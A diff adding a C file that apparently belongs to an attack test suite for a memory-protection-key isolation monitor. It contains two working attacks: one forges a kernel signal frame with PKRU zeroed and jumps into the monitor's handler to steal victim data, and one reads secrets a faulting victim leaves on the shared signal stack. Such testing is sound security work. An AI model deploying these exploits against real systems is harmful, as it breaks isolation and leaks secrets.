@@ -1,0 +1,102 @@
+/* SPDX-License-Identifier: MIT */
+/*
+ * attack_signals.c: what can be done to, and with, the monitor's handler of
+ * signals, whose stack everybody can write to.
+ */
+#include "attacks.h"
+#include "rt/string.h"
+
+#define STACK_START (CUBICLE_SPACE_BASE + CUBICLE_SIGNALS_OFFSET)
+#define STACK_END   (STACK_START + CUBICLE_SIGNALS_BYTES)
+
+/* By name from assembly. */
+struct forged {
+	uint64_t frame, context, info, at;
+};
+__attribute__((visibility("hidden"))) struct forged signals_forged;
+
+static void cpuid(uint32_t leaf, uint32_t sub, uint32_t *ebx)
+{
+	uint32_t eax, ecx, edx;
+
+	__asm__("cpuid"
+		: "=a"(eax), "=b"(*ebx), "=c"(ecx), "=d"(edx)
+		: "a"(leaf), "c"(sub));
+}
+
+/* The state of all registers as the kernel saves it, at (at), but PKRU is 0. */
+static void forge_state(uint8_t *at)
+{
+	uint32_t bytes, keys, low, high, magic = 0x46505845;
+
+	cpuid(13, 0, &bytes);
+	cpuid(13, 9, &keys);
+	__asm__ volatile("xgetbv" : "=a"(low), "=d"(high) : "c"(0));
+	__asm__ volatile("xsave (%0)" ::"r"(at), "a"(low), "d"(high)
+			 : "memory");
+	memset(at + keys, 0, 4);
+	const uint32_t software[5] = {0x46505853, bytes + 4, low, high, bytes};
+	memcpy(at + 464, software, sizeof(software));
+	memcpy(at + bytes, &magic, 4);
+}
+
+/*
+ * Enter the handler at (at) as the kernel does, with a frame of our own on the
+ * alternate stack: a signal that is to be ignored, after which the monitor goes
+ * on as the frame says.
+ */
+static int forge_entry(uint64_t at)
+{
+	uint8_t *state = (uint8_t *)(STACK_END - 8192);
+	uint64_t *frame = (uint64_t *)(STACK_END - 16384);
+	uint64_t *context = frame + 1; /* behind the return address */
+	uint32_t *info = (uint32_t *)(STACK_END - 12288);
+	uint64_t selectors;
+
+	__asm__("xor %0, %0\n mov %%ss, %w0\n shl $48, %0\n mov %%cs, %w0"
+		: "=r"(selectors));
+	memset(frame, 0, 4096);
+	memset(info, 0, 128);
+	memset(state, 0, 8192);
+	forge_state(state);
+	info[2] = 128; /* si_code: the kernel's */
+	context[23] = selectors;
+	context[28] = (uintptr_t)state;
+	signals_forged = (struct forged){
+		(uintptr_t)frame, (uintptr_t)context, (uintptr_t)info, at};
+	/* Words 15, 16, 20, 21 and 22 are rbp, rbx, rsp, rip and flags. */
+	__asm__ volatile("mov signals_forged+8(%%rip), %%rdx\n"
+			 "mov %%rbp, 120(%%rdx)\n mov %%rbx, 128(%%rdx)\n"
+			 "mov %%rsp, 160(%%rdx)\n lea 1f(%%rip), %%rax\n"
+			 "mov %%rax, 168(%%rdx)\n movq $0x202, 176(%%rdx)\n"
+			 "mov signals_forged+16(%%rip), %%rsi\n"
+			 "mov signals_forged(%%rip), %%rsp\n"
+			 "mov $26, %%edi\n" /* SIGVTALRM */
+			 "jmp *signals_forged+24(%%rip)\n"
+			 "1:\n" ::
+				 : "rax", "rcx", "rdx", "rsi", "rdi", "r8",
+			 "r9", "r10", "r11", "r12", "r13", "r14", "r15",
+			 "memory");
+	return steal(victim.data);
+}
+
+/*
+ * Have the victim fault while its registers hold the secret, and look for them
+ * where the kernel put them.
+ */
+static int residue(uint64_t arg)
+{
+	static uint8_t page[8192] __attribute__((aligned(4096)));
+
+	(void)arg;
+	page[4096] = 1;
+	victim_touch(page + 4096, 64);
+	memcpy(loot, (void *)(STACK_END - LOOT_BYTES), LOOT_BYTES);
+	return ATTACK_FAILED; /* what is in the loot decides */
+}
+
+const struct attack attacks_here[] = {
+	{"forge-entry", forge_entry},
+	{"residue", residue},
+	{NULL, NULL},
+};
